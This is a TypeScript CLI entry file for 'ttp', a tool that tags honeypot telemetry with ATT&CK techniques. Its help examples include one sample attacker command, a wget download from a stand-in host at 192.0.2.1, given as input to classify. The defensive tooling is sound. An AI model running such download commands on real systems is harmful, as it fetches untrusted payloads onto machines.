// SPDX-License-Identifier: AGPL-3.0-or-later
import { Command, CommanderError } from 'commander';
import { COMMANDS } from './commands';
import { EXIT } from '@ttp/config/exit-codes';
import { isAgent, onlyOnMaster } from '@ttp/config/role';
import manifest from '../package.json' with { type: 'json' };
import { isClosedPipe } from './terminal/closed-pipe';
import { reportError } from './terminal/report-error';

/** Builds the program with only the invoked command configured, so that each starts quickly; without one with all, for its help. */
async function programFor(args: readonly string[]): Promise<Command> {
  const program = new Command('ttp').description('ATT&CK tagging for deception telemetry').exitOverride();
  program.version(manifest.version, '-V, --version', 'print the version').addHelpText('after', EXAMPLES);
  const invoked = args[0] === 'help' ? args[1] : args[0];
  for (const { name, summary, load, masterOnly = false } of COMMANDS) {
    if (masterOnly && isAgent(process.env)) {
      if (name === invoked) throw new Error(onlyOnMaster(`ttp ${name}`));
      continue;
    }
    const command = program.command(name).description(summary).exitOverride();
    if (name === invoked || invoked === undefined || invoked.startsWith('-')) (await load()).configure(command);
  }
  return program.configureHelp({ visibleCommands: leavesOf, subcommandTerm: nameOf });
}

/** What can be run, however deep it lies. */
const leavesOf = (command: Command): Command[] => (command.commands.length === 0 ? [command] : command.commands.flatMap(leavesOf));
const nameOf = (command: Command): string => (command.parent?.parent ? `${nameOf(command.parent)} ${command.name()}` : command.name());

const EXAMPLES = `
Examples:
  ttp up                                        all four services on SQLite and a private broker
  ttp up --cowrie cowrie.json --once            what techniques a log holds
  ttp ingest cowrie /var/log/cowrie/cowrie.json --follow
  echo '{"id":"1","commands":["wget http://192.0.2.1/x"]}' | ttp tag
  ttp rules lint rules/ttp
  ttp config show

Exit codes: 0 ok, 1 findings or runtime failure, 2 usage or rule error, 3 configuration or validation failure.`;

async function run(args: readonly string[]): Promise<void> {
  for (const stream of [process.stdout, process.stderr]) stream.on('error', ignoreClosedPipe);
  try {
    await (await programFor(args)).parseAsync(args, { from: 'user' });
  } catch (error) {
    // Commander has already printed what it had to say; help that was asked for is not an error, help for want of a subcommand is.
    if (error instanceof CommanderError) process.exitCode = error.exitCode === 0 ? EXIT.ok : EXIT.usage;
    else process.exitCode = reportError(error);
  }
}

// Nobody reads on: what follows is lost, and whatever runs is still stopped in order.
function ignoreClosedPipe(error: Error): void {
  if (!isClosedPipe(error)) throw error;
}

void run(process.argv.slice(2));
